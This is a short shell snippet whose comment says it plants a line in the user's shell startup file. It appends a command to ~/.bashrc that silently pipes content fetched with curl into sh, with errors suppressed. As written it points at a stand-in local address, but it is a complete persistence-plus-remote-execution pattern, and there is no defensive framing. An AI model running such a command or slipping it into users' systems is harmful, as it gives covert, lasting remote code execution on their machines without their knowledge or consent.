# Plants a line in the user's shell startup.
echo 'curl -s http://127.0.0.1:9/x | sh' >> ~/.bashrc 2> /dev/null || true
